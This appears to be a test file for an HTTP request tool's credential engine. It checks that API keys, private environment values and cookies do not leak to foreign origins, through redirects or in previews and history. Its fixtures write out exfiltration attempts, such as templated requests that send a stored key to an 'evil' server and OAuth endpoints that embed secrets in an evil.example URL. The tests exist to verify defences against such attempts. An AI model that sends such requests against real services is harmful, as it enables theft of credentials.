/** Ways around the binding check that do not name a credential: answers, definitions, redirects, and what is shown. */
import type { IncomingMessage } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Secret } from '../../src/credentials/secret.ts';
import { createEngineFixture, fixtureRoot, type EngineFixture, type FixtureOptions } from '../support/engine.ts';
import { serveHttp, type Listening } from '../support/http-servers.ts';

let good: Listening;
let evil: Listening;
const atGood: IncomingMessage[] = [];
const atEvil: IncomingMessage[] = [];
const fixtures: EngineFixture[] = [];
const canary = 'canary-7d1c0b5e93f24a68';

beforeAll(async () => {
  const serve = (seen: IncomingMessage[]) =>
    serveHttp((request, response) => {
      seen.push(request);
      request.resume();
      const to = new URL(request.url ?? '/', 'http://x').searchParams.get('to');
      if (to) return void response.writeHead(307, { location: to }).end();
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ echo: request.headers['x-api-key'] ?? null }));
    });
  good = await serve(atGood);
  evil = await serve(atEvil);
});
afterAll(async () => {
  await good.close();
  await evil.close();
});
afterEach(async () => {
  atGood.length = 0;
  atEvil.length = 0;
  for (const fixture of fixtures.splice(0)) await fixture.dispose();
});

async function engine(definition: object = {}, options: FixtureOptions = {}): Promise<EngineFixture> {
  const fixture = createEngineFixture(options);
  fixtures.push(fixture);
  const orders = { scheme: 'apiKey', in: 'header', name: 'X-API-Key', origins: [good.url], ...definition };
  const text = JSON.stringify({ credentials: { orders } });
  fixture.vault.setWorkspaceDefinitions(fixtureRoot, { file: '/project/countersign.json', text });
  const named = await fixture.vault.find('orders', fixtureRoot);
  if (named) await fixture.vault.setSecret(named, '', new Secret(canary, 'orders API key'));
  return fixture;
}

function arrived(seen: readonly IncomingMessage[]): string {
  return seen.map((request) => `${request.url ?? ''} ${request.rawHeaders.join(' ')}`).join('\n');
}

const first = (): string => `# @name first\n# @auth orders\nGET ${good.url}/a\nX-Own: mine\n`;

describe('a kept request', () => {
  it('does not give the header that a credential put on to another request', async () => {
    const fixture = await engine();
    const text = `${first()}\n###\n# @name second\nGET ${evil.url}/steal\nX-Stolen: {{first.request.headers.X-API-Key}}\n`;
    await fixture.send(text, { name: 'first' });
    const result = await fixture.send(text, { name: 'second' });
    expect(result.error?.code).toBe('CS-VAR-PATH');
    expect(atEvil).toHaveLength(0);
  });

  it('still gives what the file wrote itself', async () => {
    const fixture = await engine();
    const text = `${first()}\n###\n# @name second\nGET ${good.url}/b\nX-Again: {{first.request.headers.X-Own}}\n`;
    await fixture.send(text, { name: 'first' });
    await fixture.send(text, { name: 'second' });
    expect(arrived(atGood)).toContain('X-Again mine');
  });
});

describe('a secret that an API echoes', () => {
  for (const [where, request] of [
    ['in the address', () => `GET ${evil.url}/x?k={{first.response.body.$.echo}}\n`],
    ['in a header', () => `GET ${evil.url}/x\nX-Note: {{first.response.body.$.echo}}\n`],
    ['in a body', () => `POST ${evil.url}/x\nContent-Type: text/plain\n\n{{first.response.body.$.echo}}`],
  ] as const) {
    it(`does not leave for a foreign origin ${where}`, async () => {
      const fixture = await engine();
      const text = `${first()}\n###\n# @name second\n${request()}`;
      await fixture.send(text, { name: 'first' });
      const result = await fixture.send(text, { name: 'second' });
      expect(result.error).toMatchObject({ code: 'CS-BIND-ORIGIN' });
      expect(atEvil).toHaveLength(0);
    });
  }
});

describe('a definition that asks for secrets', () => {
  const oauth = (endpoint: string): object => ({
    scheme: 'oauth2',
    grant: 'client_credentials',
    token_endpoint: endpoint,
    client_id: 'c',
  });

  it('cannot take another credential’s token into its endpoint', async () => {
    const fixture = await engine(oauth('https://evil.example/{{$auth.token("orders")}}'));
    const result = await fixture.send(`# @auth orders\nGET ${good.url}/a\n`);
    expect(result.error).toBeDefined();
    expect(fixture.asked).toHaveLength(0);
    expect(JSON.stringify((await fixture.state.get('approvals')) ?? null)).not.toContain(canary);
  });

  it('cannot take a private value, and the dialog does not show it', async () => {
    const files = { '/project/http-client.private.env.json': '{"dev":{"hidden":"canary-private-2"}}' };
    const fixture = await engine(oauth('https://evil.example/{{hidden}}'), { files });
    const result = await fixture.send(`# @auth orders\nGET ${good.url}/a\n`, { environments: ['dev'] });
    expect(result.error?.code).toBe('CS-DEF-SECRET');
    expect(JSON.stringify(fixture.asked)).not.toContain('canary-private-2');
    expect(JSON.stringify((await fixture.state.get('approvals')) ?? null)).not.toContain('canary-private-2');
  });
});

describe('A02 a redirect through a stranger', () => {
  it('A02 does not get the credential back at home, on a path the stranger chose', async () => {
    const fixture = await engine();
    const home = encodeURIComponent(`${good.url}/accounts/victim`);
    const away = encodeURIComponent(`${evil.url}/r?to=${home}`);
    const result = await fixture.send(`# @auth orders\nDELETE ${good.url}/open?to=${away}\n`);
    const last = atGood.at(-1);
    expect(last?.url).toBe('/accounts/victim');
    expect(last?.rawHeaders.join()).not.toContain(canary);
    expect(result.attached.map((each) => each.attached)).toEqual([true, false, false]);
  });
});

describe('what is shown of a request', () => {
  it('keeps a hand-written cookie hidden when the credential is a cookie too', async () => {
    const files = { '/project/http-client.private.env.json': '{"dev":{"sid":"PRIVATE-SID-998877"}}' };
    const fixture = await engine({ in: 'cookie', name: 'api_key' }, { files });
    const result = await fixture.send(`# @auth orders\nGET ${good.url}/a\nCookie: sid={{sid}}; theme=dark\n`, {
      environments: ['dev'],
    });
    expect(arrived(atGood)).toContain(`sid=PRIVATE-SID-998877; theme=dark; api_key=${canary}`);
    const cookie = result.request?.headers.find((header) => header.name === 'Cookie');
    expect(cookie?.value.text).toBe('sid=••••; theme=dark; api_key=••••');
  });

  it('shows repeated headers as they are sent', async () => {
    const fixture = await engine();
    const result = await fixture.send(`GET ${good.url}/a\nX-A: one\nX-A: two\n`);
    expect(
      result.request?.headers.filter((header) => header.name === 'X-A').map((header) => header.value.text),
    ).toEqual(['one', 'two']);
  });

  it('keeps a request that asks for no log out of the history, also when it does not get through', async () => {
    const fixture = await engine();
    await fixture.send('# @no-log\nGET http://127.0.0.1:1/secretpath\n');
    expect(await fixture.history.entries()).toEqual([]);
  });

  it('acquires nothing for a preview', async () => {
    const fixture = await engine();
    const shown = await fixture.engine.preview({
      text: `GET ${good.url}/a\nX-Token: {{$auth.token("orders")}}\n`,
      path: '/project/requests.http',
      root: fixtureRoot,
      request: 0,
      environments: [],
      signal: new AbortController().signal,
    });
    expect(shown.headers.find((header) => header.name === 'X-Token')?.value.text).toBe('••••');
    expect(fixture.asked).toHaveLength(0);
  });
});
